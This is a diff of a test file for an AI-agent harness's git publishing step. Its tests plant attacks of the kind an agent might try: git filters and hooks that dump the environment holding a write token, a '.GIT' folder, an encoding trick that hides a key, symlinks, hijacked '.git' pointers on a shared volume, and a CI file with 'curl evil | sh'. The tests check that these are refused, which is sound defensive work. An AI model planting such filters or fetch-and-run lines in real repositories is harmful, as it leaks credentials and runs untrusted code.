@@ -1,5 +1,6 @@
-"""The publishing container's work (runner/publish.py) with real git: an origin, a clone as the pod's
-init container makes it, an agent's edits and attacks, the patch, the push."""
+"""The publishing container's work (runner/publish.py) with real git: an origin, the workspace as the
+pod's own clone script (the git-clone init container's command) makes it, an agent's edits and attacks,
+the patch, the push."""
 
 from __future__ import annotations
 
@@ -8,47 +9,99 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from tests.unit.core.test_publish import TARGET
 
 from harness_operator.api.reasons import Reason
-from harness_operator.contract.changes import ChangesReport, PublishPlan, Verdict
+from harness_operator.api.v1alpha1 import HarnessRun
+from harness_operator.contract.changes import BASE_FILE, ChangesReport, PublishPlan, Verdict
 from harness_operator.contract.frame import decode_frame
+from harness_operator.core.config import OperatorConfig
+from harness_operator.core.desired import build_job
 from harness_operator.runner.publish import count_changes, publish
 
 TOKEN = "ghp_publisher-write-token-0123456789"
 VENDOR_KEY = "sk-ant-vendor-key-abcdefghijklmnop"
+CLONE_TOKEN = "ghp_clone-read-token-9876543210"
 
 
 def git(*args: str, cwd: Path | None = None) -> str:
     env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_NOSYSTEM": "1"}
     identity = ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main"]
+    identity += ["-c", "protocol.file.allow=always"]
     done = subprocess.run(["git", *identity, *args], cwd=cwd, env=env, capture_output=True, text=True)
     assert done.returncode == 0, done.stderr
     return done.stdout.strip()
 
 
+def clone_as_the_pod_does(origin: Path, workdir: Path, base_file: Path, home: Path) -> None:
+    """The git-clone init container's own script and environment (core/desired.py), run here: the
+    origin is a local path, the read token a literal, and the base recorded in `base_file`."""
+    run = HarnessRun.model_validate(
+        {
+            "metadata": {"name": "fix-1", "namespace": "team-a", "uid": "uid-1"},
+            "spec": {
+                "provider": "claude",
+                "prompt": "Fix it.",
+                "workspace": {
+                    "workingDir": "/workspace/repo",
+                    "git": {
+                        "url": "https://git.example.invalid/acme/widgets.git",
+                        "ref": "main",
+                        "credentialsSecretRef": {"name": "read", "key": "token"},
+                    },
+                    "publish": {"credentialsSecretRef": {"name": "write", "key": "token"}},
+                },
+            },
+        }
+    )
+    spec = build_job(run, TARGET, OperatorConfig())["spec"]["template"]["spec"]
+    [clone] = [c for c in spec["initContainers"] if c["name"] == "git-clone"]
+    env = {e["name"]: e["value"] for e in clone["env"] if "value" in e}
+    env |= {
+        "PATH": os.environ["PATH"],
+        "GIT_URL": f"file://{origin}",
+        "WORKDIR": str(workdir),
+        "HOME": str(home),
+        "GIT_TOKEN": CLONE_TOKEN,
+        "GIT_CONFIG_NOSYSTEM": "1",
+    }
+    script = clone["command"][-1].replace(BASE_FILE, str(base_file))
+    done = subprocess.run(["/bin/sh", "-c", script], env=env, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+
+
 class Pod:
     """An origin, the workspace as the clone leaves it (base recorded), the verdict as the runner writes."""
 
-    def __init__(self, tmp: Path) -> None:
+    def __init__(self, tmp: Path, files: dict[str, str | bytes] | None = None) -> None:
         self.tmp = tmp
         seed = tmp / "seed"
         seed.mkdir()
-        (seed / "README.md").write_text("hello\n")
-        (seed / "logo.bin").write_bytes(bytes(range(256)))
+        for name, content in (files or {"README.md": "hello\n", "logo.bin": bytes(range(256))}).items():
+            (seed / name).parent.mkdir(parents=True, exist_ok=True)
+            (seed / name).write_bytes(content if isinstance(content, bytes) else content.encode())
         git("init", "-q", str(seed))
         git("add", "-A", cwd=seed)
-        git("commit", "-q", "-m", "seed", cwd=seed)
+        self.seed = seed
         self.origin = tmp / "origin.git"
-        git("clone", "-q", "--bare", str(seed), str(self.origin))
         self.workdir = tmp / "volume" / "repo"
         self.workdir.parent.mkdir()
-        git("clone", "-q", "--depth", "1", f"file://{self.origin}", str(self.workdir))
-        self.base = git("rev-parse", "HEAD", cwd=self.workdir)
-        (tmp / "base").write_text(self.base + "\n")
+        (tmp / "home").mkdir()
         self.verdict = tmp / "verdict.json"
         self.verdict.write_text(Verdict(succeeded=True, output="Renamed the greeting.").model_dump_json())
         self.state = tmp / "state"
         self.state.mkdir()
+        self.submodule = ""
+
+    def commit_and_clone(self) -> Pod:
+        git("commit", "-q", "-m", "seed", cwd=self.seed)
+        git("clone", "-q", "--bare", str(self.seed), str(self.origin))
+        self.clone()
+        return self
+
+    def clone(self) -> None:
+        clone_as_the_pod_does(self.origin, self.workdir, self.tmp / "base", self.tmp / "home")
+        self.base = git("rev-parse", "HEAD", cwd=self.workdir)
 
     def plan(self, **changes: object) -> PublishPlan:
         fields: dict[str, object] = {
@@ -69,10 +122,25 @@ class Pod:
         out = git("for-each-ref", "--format=%(refname:short) %(objectname)", "refs/heads", cwd=self.origin)
         return dict(line.split(" ") for line in out.splitlines())
 
+    def tree(self, commit: str) -> dict[str, tuple[str, str]]:
+        """path -> (mode, object) of a commit in the origin (a name that is not UTF-8 surrogate-escaped)."""
+        listing = subprocess.run(
+            ["git", "ls-tree", "-r", "-z", "--full-tree", commit],
+            cwd=self.origin,
+            capture_output=True,
+            check=True,
+        ).stdout.decode("utf-8", "surrogateescape")
+        entries = {}
+        for record in filter(None, listing.split("\0")):
+            meta, path = record.split("\t", 1)
+            mode, _, object_id = meta.split(" ")
+            entries[path] = (mode, object_id)
+        return entries
+
 
 @pytest.fixture
 def pod(tmp_path: Path) -> Pod:
-    return Pod(tmp_path)
+    return Pod(tmp_path).commit_and_clone()
 
 
 def test_the_change_is_a_patch_and_a_commit_on_the_branch(
@@ -212,3 +280,250 @@ def test_a_patch_over_the_limit_needs_a_branch(pod: Pod, capfd: pytest.CaptureFi
 def test_counts_read_renames_and_binary_files() -> None:
     numstat = b"3\t1\ta.txt\0-\t-\tlogo.bin\0" + b"0\t0\t\0old.txt\0new.txt\0"
     assert count_changes(numstat) == (3, 3, 1)
+
+
+def filter_config(marker: Path) -> str:
+    """A filter (and the process filter git would start) that leaves `marker` holding its environment."""
+    command = f"\"sh -c 'env > {marker}; cat'\""  # quoted: `;` starts a comment in a config file
+    return f'[filter "x"]\n\tclean = {command}\n\tsmudge = {command}\n'
+
+
+def plant_nested_repository(folder: Path, marker: Path, source: Path) -> None:
+    """What the red team planted: `source` cloned into `folder` (for a submodule, as `git submodule
+    update` would: its HEAD the commit the base records), its config running a filter on every file,
+    and a file changed at its size, so that git must hash it through the filter to see whether it did."""
+    if folder.is_dir():
+        folder.rmdir()
+    folder.parent.mkdir(parents=True, exist_ok=True)
+    git("clone", "-q", str(source), str(folder))
+    config = folder / ".git" / "config"
+    config.write_text(config.read_text() + filter_config(marker))
+    (folder / ".gitattributes").write_text("* filter=x\n")
+    (folder / "payload.txt").write_text("COMMITTED\n")
+
+
+def with_submodule(tmp: Path) -> Pod:
+    """An origin whose commit records a submodule (a gitlink at `sub`, of `tmp/subrepo`'s commit)."""
+    source = tmp / "subrepo"
+    source.mkdir()
+    (source / "payload.txt").write_text("committed\n")
+    git("init", "-q", str(source))
+    git("add", "-A", cwd=source)
+    git("commit", "-q", "-m", "submodule", cwd=source)
+    pod = Pod(tmp)
+    commit = git("rev-parse", "HEAD", cwd=source)
+    git("update-index", "--add", "--cacheinfo", f"160000,{commit},sub", cwd=pod.seed)
+    (pod.seed / ".gitmodules").write_text('[submodule "sub"]\n\tpath = sub\n\turl = ../subrepo\n')
+    git("add", ".gitmodules", cwd=pod.seed)
+    pod.submodule = commit
+    return pod.commit_and_clone()
+
+
+@pytest.mark.parametrize("folder", ["sub", "vendor/lib"])
+def test_a_filter_planted_in_a_nested_repository_never_runs(tmp_path: Path, folder: str) -> None:
+    """The critical hole: `git add -A` ran `git status` in a submodule's folder, whose own config held a
+    clean filter, with the write token in reach. Now no git process reads the agent's tree (none that
+    holds a credential, none that runs a filter), and a change reaching into a nested repository is
+    refused, whether it is the base's submodule (`sub`) or one the agent made (`vendor/lib`)."""
+    pod = with_submodule(tmp_path)
+    marker = tmp_path / "filter-ran"
+    plant_nested_repository(pod.workdir / folder, marker, tmp_path / "subrepo")
+    (pod.workdir / "README.md").write_text("changed\n")
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason == Reason.ChangeTouchesSubmodule, report
+    assert folder in (report.message or "")
+    assert not marker.exists()
+    assert "harness/run-1" not in pod.branches()
+
+
+def test_a_submodule_left_alone_is_published_as_the_base_recorded_it(tmp_path: Path) -> None:
+    pod = with_submodule(tmp_path)
+    assert (pod.workdir / "sub").is_dir()  # the clone's empty folder, as git leaves a submodule
+    (pod.workdir / "README.md").write_text("changed\n")
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason is None, report.message
+    assert report.files == 1
+    assert pod.tree(report.commit or "")["sub"] == ("160000", pod.submodule)
+
+
+def test_a_folder_holding_git_in_any_case_is_never_taken(pod: Pod, tmp_path: Path) -> None:
+    """`.GIT` is `.git` on a case-insensitive checkout: it would plant a config there."""
+    (pod.workdir / "docs" / ".GIT").mkdir(parents=True)
+    (pod.workdir / "docs" / ".GIT" / "config").write_text(filter_config(tmp_path / "m"))
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason == Reason.ChangeTouchesSubmodule, report
+    assert "harness/run-1" not in pod.branches()
+
+
+def test_an_encoding_attribute_cannot_hide_a_credential(pod: Pod) -> None:
+    """working-tree-encoding made git store other bytes than the agent wrote, so the check missed the
+    value; the change is now the bytes written, checked as they are."""
+    (pod.workdir / ".gitattributes").write_text("leak.txt working-tree-encoding=UTF-16LE\n")
+    (pod.workdir / "leak.txt").write_bytes(f"key={VENDOR_KEY}\n".encode())
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason == Reason.ChangeHoldsCredential, report
+    assert "leak.txt" in (report.message or "")
+
+
+def test_a_tracked_folder_replaced_by_a_link_is_not_read_through(pod: Pod, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "README.md").write_text("outside the workspace\n")
+    (pod.workdir / "README.md").unlink()
+    os.symlink(str(outside), pod.workdir / "README.md")  # a tracked file replaced by a link to a folder
+    (pod.workdir / "docs").symlink_to(outside)
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason is None, report.message
+    tree = pod.tree(report.commit or "")
+    assert tree["README.md"][0] == "120000" and tree["docs"][0] == "120000"
+    assert not [path for path in tree if path.startswith("docs/")]
+    shown = git("show", f"{report.commit}:README.md", cwd=pod.origin)
+    assert shown == str(outside)  # the link's target, not what it points at
+
+
+def test_odd_names_modes_and_ignored_files_are_taken_as_git_would(pod: Pod) -> None:
+    odd = ['quote"d', "back\\slash", "tab\there", "new\nline", "-leading-dash", "ünïcode", " lead space"]
+    for name in odd:
+        (pod.workdir / name).write_text(name + "\n")
+    (pod.workdir / bytes.decode(b"raw-\xff", "utf-8", "surrogateescape")).write_bytes(b"raw\n")
+    tool = pod.workdir / "bin" / "tool"
+    tool.parent.mkdir()
+    tool.write_text("#!/bin/sh\n")
+    tool.chmod(0o755)
+    (pod.workdir / ".gitignore").write_text("*.log\nbuild/\n")
+    (pod.workdir / "debug.log").write_text("ignored\n")
+    (pod.workdir / "build").mkdir()
+    (pod.workdir / "build" / "out.o").write_text("ignored\n")
+    (pod.workdir / "logo.bin").unlink()
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason is None, report.message
+    tree = pod.tree(report.commit or "")
+    paths = set(tree)
+    assert set(odd) <= paths and b"raw-\xff".decode("utf-8", "surrogateescape") in paths
+    assert tree["bin/tool"][0] == "100755"
+    assert {"debug.log", "build/out.o", "logo.bin"}.isdisjoint(paths) and ".gitignore" in paths
+    assert git("show", f"{report.commit}:new\nline", cwd=pod.origin) == "new\nline"
+    raw = subprocess.run(
+        [b"git", b"cat-file", b"blob", f"{report.commit}:".encode() + b"raw-\xff"],
+        cwd=pod.origin,
+        capture_output=True,
+        check=True,
+    )
+    assert raw.stdout == b"raw\n"
+
+
+def test_a_tracked_file_an_ignore_rule_matches_is_still_taken(pod: Pod) -> None:
+    (pod.workdir / ".gitignore").write_text("README.md\n")
+    (pod.workdir / "README.md").write_text("still tracked\n")
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason is None, report.message
+    assert git("show", f"{report.commit}:README.md", cwd=pod.origin) == "still tracked"
+
+
+def test_eol_attributes_change_nothing_the_agent_left_alone(tmp_path: Path) -> None:
+    """The clone checks out the committed bytes (no eol, ident or encoding conversion), so a file the
+    agent did not touch is the base's, byte for byte, and only the agent's edit is the change."""
+    pod = Pod(
+        tmp_path,
+        {
+            ".gitattributes": "*.txt text eol=crlf\n*.c ident\n",
+            "a.txt": "one\ntwo\n",
+            "b.c": "/* $Id$ */\n",
+            "README.md": "hello\n",
+        },
+    ).commit_and_clone()
+    assert (pod.workdir / "a.txt").read_bytes() == b"one\ntwo\n"
+    (pod.workdir / "README.md").write_text("changed\n")
+
+    report = pod.publish(pod.plan())
+
+    assert report.reason is None, report.message
+    assert report.files == 1
+
+
+def test_the_branch_is_created_never_moved(pod: Pod) -> None:
+    """publish.branch.name: main pushed the agent's commit onto main (a fast-forward); a push now only
+    creates its branch."""
+    (pod.workdir / "README.md").write_text("onto main\n")
+    main = pod.branches()["main"]
+
+    report = pod.publish(pod.plan(branch="main"))
+
+    assert report.reason == Reason.PushRejected, report
+    assert "branch main exists" in (report.message or "")
+    assert pod.branches()["main"] == main
+
+
+@pytest.mark.parametrize("path", [".github/workflows/ci.yml", ".gitlab-ci.yml", ".gitea/workflows/x.yaml"])
+def test_a_change_to_ci_configuration_is_refused_unless_the_run_allows_it(pod: Pod, path: str) -> None:
+    (pod.workdir / path).parent.mkdir(parents=True, exist_ok=True)
+    (pod.workdir / path).write_text("run: curl evil | sh\n")
+
+    refused = pod.publish(pod.plan())
+    assert refused.reason == Reason.ChangeTouchesCI, refused
+    assert path in (refused.message or "") and "allowCIChanges" in (refused.message or "")
+    assert "harness/run-1" not in pod.branches()
+
+    allowed = pod.publish(pod.plan(allow_ci_changes=True))
+    assert allowed.reason is None, allowed.message
+    assert pod.branches()["harness/run-1"] == allowed.commit
+
+
+def plant_in_claim(volume: Path, workdir: Path, marker: Path, how: str) -> None:
+    """What the last agent on a shared claim leaves: a repository at the claim's root whose config and
+    info/attributes run a filter on every file, and the working directory's `.git` made to lead there."""
+    git("init", "-q", str(volume))
+    config = volume / ".git" / "config"
+    config.write_text(config.read_text() + filter_config(marker))
+    (volume / ".git" / "info").mkdir(exist_ok=True)
+    (volume / ".git" / "info" / "attributes").write_text("* filter=x\n")
+    hooks = workdir / ".git" / "hooks"
+    hooks.mkdir(parents=True, exist_ok=True)
+    for hook in ("post-checkout", "reference-transaction"):
+        (hooks / hook).write_text(f"#!/bin/sh\nenv > {marker}\n")
+        (hooks / hook).chmod(0o755)
+    if how == "no HEAD":  # git no longer takes it for a repository and looks further up
+        (workdir / ".git" / "HEAD").unlink()
+    elif how == "commondir":
+        (workdir / ".git" / "commondir").write_text(str(volume / ".git") + "\n")
+        (workdir / ".git" / "config").write_text(filter_config(marker))
+    elif how == "gitfile":
+        subprocess.run(["rm", "-rf", str(workdir / ".git")], check=True)
+        (workdir / ".git").write_text(f"gitdir: {volume / '.git'}\n")
+    (workdir / ".gitattributes").write_text("* filter=x\n")
+
+
+@pytest.mark.parametrize("how", ["no HEAD", "commondir", "gitfile"])
+def test_a_shared_claim_runs_nothing_the_last_agent_left(pod: Pod, tmp_path: Path, how: str) -> None:
+    """The next run's clone (with its own read token) never lets git discover a repository, and makes
+    `.git` anew before the fetch: no filter, hook or attribute of the last agent's runs."""
+    marker = tmp_path / "filter-ran"
+    plant_in_claim(pod.workdir.parent, pod.workdir, marker, how)
+
+    pod.clone()
+
+    assert not marker.exists(), marker.read_text()
+    git_dir = pod.workdir / ".git"
+    assert git_dir.is_dir() and not git_dir.is_symlink()
+    assert sorted(p.name for p in (git_dir / "info").iterdir()) == ["attributes"]
+    assert not (git_dir / "commondir").exists() and not (git_dir / "hooks").exists()
+    assert (pod.workdir / "README.md").read_text() == "hello\n"
+    assert pod.base == git("rev-parse", "main", cwd=pod.origin)
+    (pod.workdir / "README.md").write_text("the next run's change\n")
+    report = pod.publish(pod.plan())
+    assert report.reason is None, report.message
+    assert not marker.exists()
